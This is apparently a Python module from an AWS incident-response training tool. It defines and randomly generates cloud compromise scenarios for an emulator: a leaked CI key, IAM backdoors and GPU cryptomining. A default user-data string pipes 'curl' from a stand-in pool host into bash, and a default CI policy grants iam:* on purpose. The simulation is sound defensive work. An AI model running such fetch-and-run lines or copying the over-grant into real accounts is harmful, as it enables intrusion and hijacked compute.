"""Compromise scenarios as data: YAML files shipped with the package, or generated from a seed.

A scenario describes a legitimate baseline (an admin, a CI user with one access key, an application
role, a few instances, a multi-region trail, GuardDuty) and what an attacker holding the CI user's
key does with it afterwards. :mod:`awsrespond.emulator.seeding` applies it to an emulator.
"""

from __future__ import annotations

import ipaddress
import random
import re
from importlib import resources
from pathlib import Path
from typing import Annotated, Any, Literal

import yaml
from pydantic import (
    AfterValidator,
    BaseModel,
    ConfigDict,
    Field,
    ValidationError,
    field_validator,
    model_validator,
)

from awsrespond.emulator.server import EMULATOR_ACCOUNT_ID
from awsrespond.errors import InputError, UsageError

ADMINISTRATOR_ACCESS = "arn:aws:iam::aws:policy/AdministratorAccess"

_REGION = re.compile(r"^[a-z]{2}(-gov|-iso[a-z]?)?-[a-z]+-\d$")
_NAME = re.compile(r"^[A-Za-z0-9+=,.@_-]{1,64}$")
_BUCKET = re.compile(r"^[a-z0-9][a-z0-9.-]{1,61}[a-z0-9]$")
_SLUG = re.compile(r"^[a-z0-9][a-z0-9-]{0,62}$")
_INSTANCE_TYPE = re.compile(r"^[a-z][a-z0-9-]*\.[a-z0-9]+$")

ACCELERATED_FAMILIES = ("p3", "p4d", "p5", "g4dn", "g5", "g6", "inf2", "trn1")


def _default_ci_policy() -> dict[str, Any]:
    # "Limited" to deployment, with the iam:* that CI set-ups often carry for managing their own
    # users: the over-grant that lets a leaked CI key escalate.
    return {
        "Version": "2012-10-17",
        "Statement": [
            {
                "Sid": "Deploy",
                "Effect": "Allow",
                "Action": [
                    "s3:GetObject",
                    "s3:PutObject",
                    "s3:ListBucket",
                    "ecr:*",
                    "lambda:UpdateFunctionCode",
                    "ec2:Describe*",
                    "ec2:RunInstances",
                    "ec2:CreateTags",
                ],
                "Resource": "*",
            },
            {"Sid": "ManageServiceUsers", "Effect": "Allow", "Action": "iam:*", "Resource": "*"},
        ],
    }


class _Model(BaseModel):
    model_config = ConfigDict(extra="forbid", frozen=True)


def _check_region(value: str) -> str:
    if not _REGION.match(value):
        raise ValueError(f"not an AWS region name: {value!r}")
    return value


def _check_name(value: str) -> str:
    if not _NAME.match(value):
        raise ValueError(f"not a valid IAM/EC2 name: {value!r}")
    return value


def _check_instance_type(value: str) -> str:
    if not _INSTANCE_TYPE.match(value):
        raise ValueError(f"not an instance type: {value!r}")
    return value


def _check_ip(value: str) -> str:
    ipaddress.ip_address(value)
    return value


RegionName = Annotated[str, AfterValidator(_check_region)]
ResourceName = Annotated[str, AfterValidator(_check_name)]
InstanceType = Annotated[str, AfterValidator(_check_instance_type)]
IpAddress = Annotated[str, AfterValidator(_check_ip)]


class InstanceGroup(_Model):
    """Legitimate instances launched together (one RunInstances)."""

    name: str = Field(description="Name tag")
    instance_type: InstanceType
    count: int = Field(default=1, ge=1, le=3)


class Baseline(_Model):
    admin_user: ResourceName
    admin_ip: IpAddress = Field(description="Where the administrator works from")
    ci_user: ResourceName
    ci_ip: IpAddress = Field(description="Where the CI runner calls AWS from")
    ci_user_agent: str = "aws-cli/2.15.30 Python/3.11.8 Linux/6.5.0-1016-azure exe/x86_64.ubuntu.22"
    ci_policy_name: ResourceName
    ci_policy: dict[str, Any] = Field(default_factory=_default_ci_policy)
    app_role: ResourceName
    app_role_policy: str = "arn:aws:iam::aws:policy/AmazonSSMManagedInstanceCore"
    instance_profile: ResourceName
    instances: list[InstanceGroup] = Field(min_length=1)
    web_security_group: ResourceName | None = Field(default=None, description="Allows 443 from 0.0.0.0/0")
    snapshot: bool = Field(default=False, description="An older EBS snapshot of the first instance")
    trail_name: ResourceName
    trail_bucket: str

    @field_validator("trail_bucket")
    @classmethod
    def _bucket(cls, value: str) -> str:
        if not _BUCKET.match(value) or ".." in value:
            raise ValueError(f"not a valid S3 bucket name: {value!r}")
        return value

    @model_validator(mode="after")
    def _instance_total(self) -> Baseline:
        total = sum(group.count for group in self.instances)
        if not 1 <= total <= 3:
            raise ValueError(f"the baseline has 1-3 instances, not {total}")
        return self


class AttackerInstances(_Model):
    """Instances the attacker launches together in one region (one RunInstances)."""

    region: RegionName
    instance_type: InstanceType
    count: int = Field(default=1, ge=1, le=10)
    termination_protection: bool = False
    security_group: bool = Field(default=False, description="Attach the attacker's open group in this region")
    key_pair: bool = Field(default=False, description="Launch with the attacker's key pair in this region")
    name: str | None = Field(default=None, description="Name tag, if the attacker sets one")


class SpotRequest(_Model):
    """A persistent spot request (moto fulfils it at once with one instance)."""

    region: RegionName
    instance_type: InstanceType
    max_price: str = "8.00"
    security_group: bool = False
    key_pair: bool = False


class KeyPair(_Model):
    name: ResourceName
    region: RegionName


class OpenSecurityGroup(_Model):
    """A security group open to 0.0.0.0/0 on ``ports`` (``all``: every protocol and port)."""

    name: ResourceName
    region: RegionName
    ports: list[int] | Literal["all"] = Field(default_factory=lambda: [22])
    description: str = "launch-wizard created 2024-01-01T00:00:00Z"

    @field_validator("ports")
    @classmethod
    def _ports(cls, value: list[int] | str) -> list[int] | str:
        if isinstance(value, list) and (not value or any(not 0 < p < 65536 for p in value)):
            raise ValueError("ports must be 'all' or a non-empty list of ports 1-65535")
        return value


class LambdaFunction(_Model):
    name: ResourceName
    region: RegionName
    role_name: ResourceName = Field(description="Execution role the attacker creates for it")
    runtime: str = "python3.12"
    environment: dict[str, str] = Field(default_factory=dict)


class CustomPolicy(_Model):
    """A customer-managed policy allowing Action "*" on Resource "*"."""

    name: ResourceName
    attach_to: Literal["user", "backdoor_role"] = "backdoor_role"


class Attacker(_Model):
    """Everything here is done with the CI user's access key, after the incident start."""

    source_ips: list[IpAddress] = Field(min_length=1, max_length=3)
    user_agent: str
    console_user_agent: str = (
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/124.0.0.0 Safari/537.36"
    )
    recon: bool = Field(default=True, description="Read-only discovery calls before acting")
    user_name: ResourceName = Field(description="New IAM user with AdministratorAccess, a key and a password")
    backdoor_role: ResourceName
    external_account_id: str = Field(description="The outside account the backdoor role trusts")
    custom_policy: CustomPolicy | None = None
    instances: list[AttackerInstances] = Field(min_length=2)
    spot_requests: list[SpotRequest] = Field(min_length=1)
    key_pairs: list[KeyPair] = Field(min_length=1)
    security_groups: list[OpenSecurityGroup] = Field(min_length=1)
    lambda_functions: list[LambdaFunction] = Field(min_length=1)
    image_id: str = "ami-0f3a440bbcff3d043"
    user_data: str = "#!/bin/bash\ncurl -s http://pool.example.net/setup.sh | bash\n"

    @field_validator("external_account_id")
    @classmethod
    def _account(cls, value: str) -> str:
        if not re.fullmatch(r"\d{12}", value):
            raise ValueError("external_account_id must be 12 digits")
        if value == EMULATOR_ACCOUNT_ID:
            raise ValueError("external_account_id must not be the emulator's own account")
        return value

    @field_validator("image_id")
    @classmethod
    def _ami(cls, value: str) -> str:
        if not re.fullmatch(r"ami-[0-9a-f]{8,17}", value):
            raise ValueError(f"not an AMI id: {value!r}")
        return value

    @property
    def regions(self) -> list[str]:
        """Every region the attacker touches with EC2 or Lambda, in first-use order."""
        regions = [
            *(kp.region for kp in self.key_pairs),
            *(sg.region for sg in self.security_groups),
            *(group.region for group in self.instances),
            *(spot.region for spot in self.spot_requests),
            *(fn.region for fn in self.lambda_functions),
        ]
        return list(dict.fromkeys(regions))


class CostProfile(_Model):
    """The Cost Explorer curve: a quiet baseline, and attacker compute on the incident day."""

    baseline_daily_usd: float = Field(default=38.0, gt=0)
    incident_hours: float = Field(default=20.0, gt=0, le=24, description="Attacker compute billed that day")


class Scenario(_Model):
    name: str
    description: str
    company: str
    home_regions: list[RegionName] = Field(min_length=1, max_length=3)
    baseline: Baseline
    attacker: Attacker
    cost: CostProfile = Field(default_factory=CostProfile)

    @field_validator("name")
    @classmethod
    def _slug(cls, value: str) -> str:
        if not _SLUG.match(value):
            raise ValueError(f"scenario names are lower-case slugs: {value!r}")
        return value

    @field_validator("home_regions")
    @classmethod
    def _regions(cls, value: list[str]) -> list[str]:
        if len(set(value)) != len(value):
            raise ValueError("home_regions repeats a region")
        return value

    @property
    def primary_region(self) -> str:
        """Where the trail, its bucket and the baseline instances live."""
        return self.home_regions[0]

    @property
    def unused_regions(self) -> list[str]:
        """Regions the attacker uses that the company does not."""
        return [r for r in self.attacker.regions if r not in self.home_regions]

    @model_validator(mode="after")
    def _consistent(self) -> Scenario:
        attacker = self.attacker
        groups_by_region = {group.region for group in attacker.instances}
        unused = [r for r in groups_by_region if r not in self.home_regions]
        if len(unused) < 2:
            raise ValueError("the attacker launches instances in at least two regions the company does not use")
        if not any(group.termination_protection for group in attacker.instances):
            raise ValueError("at least one attacker instance group has termination protection")
        for kind, items in (("key pair", attacker.key_pairs), ("security group", attacker.security_groups)):
            regions = [item.region for item in items]
            if len(set(regions)) != len(regions):
                raise ValueError(f"at most one attacker {kind} per region")
        sg_regions = {sg.region for sg in attacker.security_groups}
        kp_regions = {kp.region for kp in attacker.key_pairs}
        launches: list[AttackerInstances | SpotRequest] = [*attacker.instances, *attacker.spot_requests]
        for launch in launches:
            if launch.security_group and launch.region not in sg_regions:
                raise ValueError(f"no attacker security group in {launch.region} to attach")
            if launch.key_pair and launch.region not in kp_regions:
                raise ValueError(f"no attacker key pair in {launch.region} to launch with")
        for sg in attacker.security_groups:
            if not any(g.security_group and g.region == sg.region for g in attacker.instances):
                raise ValueError(f"security group {sg.name} in {sg.region} is attached to no attacker instance")
        users = [self.baseline.admin_user, self.baseline.ci_user, attacker.user_name]
        if len({u.lower() for u in users}) != len(users):
            raise ValueError("admin, CI and attacker user names must differ")
        roles = [
            self.baseline.app_role,
            attacker.backdoor_role,
            *(f.role_name for f in attacker.lambda_functions),
        ]
        if len({r.lower() for r in roles}) != len(roles):
            raise ValueError("role names must differ")
        functions = [(f.region, f.name) for f in attacker.lambda_functions]
        if len(set(functions)) != len(functions):
            raise ValueError("lambda function names repeat in a region")
        policies = [self.baseline.ci_policy_name] + ([attacker.custom_policy.name] if attacker.custom_policy else [])
        if len(set(policies)) != len(policies):
            raise ValueError("policy names must differ")
        return self


# -- loading -------------------------------------------------------------------------------------


def _scenario_dir() -> Any:
    return resources.files("awsrespond.emulator").joinpath("scenarios")


def list_scenarios() -> list[str]:
    """Names of the scenarios shipped with the package."""
    return sorted(
        entry.name.removesuffix(".yaml") for entry in _scenario_dir().iterdir() if entry.name.endswith(".yaml")
    )


def _parse(text: str, origin: str) -> Scenario:
    try:
        data = yaml.safe_load(text)
    except yaml.YAMLError as exc:
        raise InputError(f"not valid YAML: {exc}", path=origin) from exc
    try:
        return Scenario.model_validate(data)
    except ValidationError as exc:
        raise InputError(f"not a valid scenario: {exc}", path=origin) from exc


def load_scenario(name: str) -> Scenario:
    """A shipped scenario by name, or a scenario file by path (``*.yaml``/``*.yml``)."""
    if name.endswith((".yaml", ".yml")) or "/" in name:
        path = Path(name)
        try:
            text = path.read_text(encoding="utf-8")
        except OSError as exc:
            raise InputError(f"cannot read scenario: {exc.strerror}", path=str(path)) from exc
        return _parse(text, str(path))
    entry = _scenario_dir().joinpath(f"{name}.yaml")
    if not entry.is_file():
        raise UsageError(f"no scenario named {name!r}; available: {', '.join(list_scenarios())}")
    return _parse(entry.read_text(encoding="utf-8"), f"scenarios/{name}.yaml")


# -- generation ----------------------------------------------------------------------------------

HOME_REGION_POOL = ("ap-northeast-2", "ap-northeast-1", "eu-west-1", "us-west-2")
# Regions enabled by default in every account: what an attacker reaches without opting in.
ATTACKER_REGION_POOL = (
    "us-east-1",
    "us-east-2",
    "us-west-1",
    "us-west-2",
    "ca-central-1",
    "sa-east-1",
    "eu-west-1",
    "eu-west-2",
    "eu-west-3",
    "eu-central-1",
    "eu-north-1",
    "ap-south-1",
    "ap-southeast-1",
    "ap-southeast-2",
    "ap-northeast-1",
    "ap-northeast-2",
    "ap-northeast-3",
)
ACCELERATED_TYPES = {
    "p3": ("p3.2xlarge", "p3.8xlarge", "p3.16xlarge"),
    "p4d": ("p4d.24xlarge",),
    "p5": ("p5.48xlarge",),
    "g4dn": ("g4dn.xlarge", "g4dn.2xlarge", "g4dn.12xlarge", "g4dn.metal"),
    "g5": ("g5.xlarge", "g5.4xlarge", "g5.12xlarge", "g5.48xlarge"),
    "g6": ("g6.xlarge", "g6.12xlarge", "g6.48xlarge"),
    "inf2": ("inf2.xlarge", "inf2.24xlarge", "inf2.48xlarge"),
    "trn1": ("trn1.2xlarge", "trn1.32xlarge"),
}
_ORDINARY_TYPES = (
    "t3.micro",
    "t3.small",
    "t3.medium",
    "t3.large",
    "m5.large",
    "m6i.large",
    "c5.xlarge",
    "r6g.large",
)
_COMPANIES = (
    "hanbit-logistics",
    "saebyeok-pay",
    "nuri-games",
    "dasan-bio",
    "gaon-mobility",
    "haneul-air",
    "bitna-commerce",
    "sejong-edu",
    "mirae-fintech",
    "chorok-farm",
    "seorae-media",
    "byeol-studio",
    "jeju-travel",
    "areum-beauty",
    "hangang-robotics",
    "kumo-labs",
    "sakura-retail",
    "nordlys-analytics",
    "pacific-freight",
    "tidewater-health",
)
_ADMINS = (
    "jiwoo.kim",
    "minjun.lee",
    "seoyeon.park",
    "hyunwoo.choi",
    "yuna.jung",
    "dohyun.kang",
    "sora.han",
    "taeyang.yoon",
    "haruto.sato",
    "ops-admin",
    "cloud-admin",
)
_CI_USERS = (
    "ci-deploy",
    "github-actions",
    "jenkins",
    "gitlab-runner",
    "buildkite-agent",
    "circleci-deployer",
    "terraform-ci",
    "argo-deployer",
)
_ATTACKER_USERS = (
    "backup-admin",
    "aws-support",
    "svc-monitor",
    "devops-temp",
    "s3-sync",
    "cloudwatch-agent",
    "terraform-admin",
    "root-backup",
    "admin2",
    "ses-smtp-user.20241103-151522",
)
_BACKDOOR_ROLES = (
    "AWSSupportAccessRole",
    "OrganizationAccountAccessRole2",
    "security-audit",
    "ops-crossaccount",
    "CloudFormationStackSetRole",
    "datadog-integration-role",
)
_FUNCTIONS = ("log-rotate", "health-check", "cost-report", "image-resize", "sys-updater", "metrics-forwarder")
_KEY_PAIRS = ("ops", "deploy-key", "admin-key", "tmp", "prod", "gpu")
_SECURITY_GROUPS = (
    "launch-wizard-1",
    "launch-wizard-3",
    "default-ssh",
    "allow-all",
    "web-open",
    "ssh-access",
)
_CUSTOM_POLICIES = ("FullAccess", "ops-admin-policy", "AdminAccessCustom", "support-policy")
_INSTANCE_NAMES = ("web-1", "api-1", "batch-1", "bastion", "worker-1", "admin-web")
_USER_AGENTS = (
    "aws-cli/2.15.30 Python/3.11.8 Linux/6.5.0-1016-aws exe/x86_64.ubuntu.22 prompt/off",
    "aws-cli/1.18.69 Python/3.8.10 Linux/5.4.0-1045-aws botocore/1.16.19",
    "Boto3/1.34.51 md/Botocore#1.34.51 ua/2.0 os/linux#5.15.0-97-generic md/arch#x86_64 lang/python#3.10.12 "
    "md/pyimpl#CPython cfg/retry-mode#legacy Botocore/1.34.51",
    "Boto3/1.26.0 Python/3.11.2 Linux/6.1.0-kali7-amd64 Botocore/1.29.0",
    "aws-sdk-go-v2/1.24.1 os/linux lang/go#1.21.6 md/GOOS#linux md/GOARCH#amd64 api/ec2#1.146.0",
)
_PORT_CHOICES: tuple[list[int] | Literal["all"], ...] = ([22], [22, 3389], "all", [22, 8080, 3333])
_HOURLY_USD = {
    "p3.2xlarge": 3.06,
    "p3.8xlarge": 12.24,
    "p3.16xlarge": 24.48,
    "p4d.24xlarge": 32.77,
    "p5.48xlarge": 98.32,
    "g4dn.xlarge": 0.526,
    "g4dn.2xlarge": 0.752,
    "g4dn.12xlarge": 3.912,
    "g4dn.metal": 7.824,
    "g5.xlarge": 1.006,
    "g5.4xlarge": 1.624,
    "g5.12xlarge": 5.672,
    "g5.48xlarge": 16.288,
    "g6.xlarge": 0.805,
    "g6.12xlarge": 4.602,
    "g6.48xlarge": 13.35,
    "inf2.xlarge": 0.758,
    "inf2.24xlarge": 6.49,
    "inf2.48xlarge": 12.98,
    "trn1.2xlarge": 1.34,
    "trn1.32xlarge": 21.50,
}


def hourly_price(instance_type: str) -> float:
    """Approximate on-demand USD per hour (for the Cost Explorer curve only)."""
    if instance_type in _HOURLY_USD:
        return _HOURLY_USD[instance_type]
    family, _, size = instance_type.partition(".")
    digits = re.match(r"\d*", size)
    multiplier = 96.0 if size == "metal" else float(digits.group(0) if digits and digits.group(0) else 1)
    per_unit = 0.9 if family.startswith(("p", "g", "inf", "trn")) else 0.05
    return per_unit * multiplier


def _doc_ip(rng: random.Random, network: str) -> str:
    net = ipaddress.ip_network(network)
    return str(net.network_address + rng.randrange(1, net.num_addresses - 1))


def _accelerated(rng: random.Random) -> str:
    """A type worth mining on: the larger sizes of a random accelerated family."""
    family = rng.choice(ACCELERATED_FAMILIES)
    sizes = ACCELERATED_TYPES[family]
    large = [t for t in sizes if hourly_price(t) >= 3.5] or list(sizes)
    return rng.choice(large)


def _count(rng: random.Random, instance_type: str) -> int:
    return rng.randint(1, 3) if hourly_price(instance_type) >= 10 else rng.randint(2, 6)


def generate_scenario(seed: int) -> Scenario:
    """A random but valid scenario; the same seed gives the same scenario.

    Addresses come from the documentation ranges (RFC 5737), so no real host is accused.
    """
    rng = random.Random(seed)
    company = rng.choice(_COMPANIES)
    primary = rng.choice(HOME_REGION_POOL)
    home = [primary]
    if rng.random() < 0.25:
        home.append(rng.choice([r for r in ("us-east-1", "ap-southeast-1", "eu-central-1") if r != primary]))
    unused_pool = [r for r in ATTACKER_REGION_POOL if r not in home]
    attack_regions = rng.sample(unused_pool, rng.randint(2, 4))

    tag = f"{rng.randrange(16**6):06x}"
    ci_user = rng.choice(_CI_USERS)
    instance_names = rng.sample(_INSTANCE_NAMES, 3)
    groups: list[InstanceGroup] = []
    remaining = rng.randint(1, 3)
    for name in instance_names:
        if remaining == 0:
            break
        count = rng.randint(1, remaining)
        groups.append(InstanceGroup(name=name, instance_type=rng.choice(_ORDINARY_TYPES), count=count))
        remaining -= count
    baseline = Baseline(
        admin_user=rng.choice(_ADMINS),
        admin_ip=_doc_ip(rng, "192.0.2.0/25"),
        ci_user=ci_user,
        ci_ip=_doc_ip(rng, "192.0.2.128/25"),
        ci_policy_name=f"{ci_user}-policy",
        app_role=f"{company}-app-role",
        instance_profile=f"{company}-app-profile",
        instances=groups,
        web_security_group=f"{company}-web" if rng.random() < 0.6 else None,
        snapshot=rng.random() < 0.5,
        trail_name=rng.choice(("management-events", "org-trail", f"{company}-trail", "cloudtrail-main")),
        trail_bucket=f"{company}-cloudtrail-{tag}",
    )

    # The open security group (and sometimes the key pair) may sit in the home region, on an
    # instance the attacker launches there.
    sg_region = primary if rng.random() < 0.3 else rng.choice(attack_regions)
    kp_regions = [r for r in attack_regions if rng.random() < 0.6] or [rng.choice(attack_regions)]
    if rng.random() < 0.3:
        kp_regions.append(primary)
    instance_regions = list(attack_regions) + ([primary] if sg_region == primary else [])
    protected = rng.choice(attack_regions)
    instances = []
    for region in instance_regions:
        instance_type = _accelerated(rng)
        instances.append(
            AttackerInstances(
                region=region,
                instance_type=instance_type,
                count=_count(rng, instance_type),
                termination_protection=region == protected or rng.random() < 0.25,
                security_group=region == sg_region,
                key_pair=region in kp_regions,
                name=rng.choice((None, "miner", "worker", "gpu-node", "ml-training")),
            )
        )
    spot_regions = rng.sample(attack_regions, rng.randint(1, min(2, len(attack_regions))))
    spot_requests = [
        SpotRequest(
            region=region,
            instance_type=_accelerated(rng),
            max_price=f"{rng.uniform(2, 30):.2f}",
            security_group=region == sg_region,
            key_pair=region in kp_regions,
        )
        for region in spot_regions
    ]
    fn = rng.choice(_FUNCTIONS)
    attacker = Attacker(
        source_ips=[_doc_ip(rng, rng.choice(("198.51.100.0/24", "203.0.113.0/24"))) for _ in range(rng.randint(1, 2))],
        user_agent=rng.choice(_USER_AGENTS),
        recon=rng.random() < 0.7,
        user_name=rng.choice(_ATTACKER_USERS),
        backdoor_role=rng.choice(_BACKDOOR_ROLES),
        external_account_id=f"{rng.randrange(10**11, 10**12):012d}",
        custom_policy=(
            CustomPolicy(name=rng.choice(_CUSTOM_POLICIES), attach_to=rng.choice(("user", "backdoor_role")))
            if rng.random() < 0.5
            else None
        ),
        instances=instances,
        spot_requests=spot_requests,
        key_pairs=[KeyPair(name=rng.choice(_KEY_PAIRS), region=region) for region in kp_regions],
        security_groups=[
            OpenSecurityGroup(name=rng.choice(_SECURITY_GROUPS), region=sg_region, ports=rng.choice(_PORT_CHOICES))
        ],
        lambda_functions=[
            LambdaFunction(
                name=fn,
                region=rng.choice([primary, *attack_regions]),
                role_name=f"{fn}-role-{rng.randrange(16**8):08x}",
                environment={
                    "POOL": "stratum+tcp://pool.example.net:3333",
                    "WORKER": f"w{rng.randrange(100)}",
                },
            )
        ],
        image_id=f"ami-0{rng.randrange(16**16):016x}",
    )
    return Scenario(
        name=f"generated-{seed}",
        description=(
            f"{company}: the {ci_user} access key leaked; the attacker persists through IAM and mines on "
            f"accelerated instances in {', '.join(attack_regions)}."
        ),
        company=company,
        home_regions=home,
        baseline=baseline,
        attacker=attacker,
        cost=CostProfile(
            baseline_daily_usd=round(rng.uniform(10, 45), 2), incident_hours=rng.choice((20.0, 22.0, 24.0))
        ),
    )
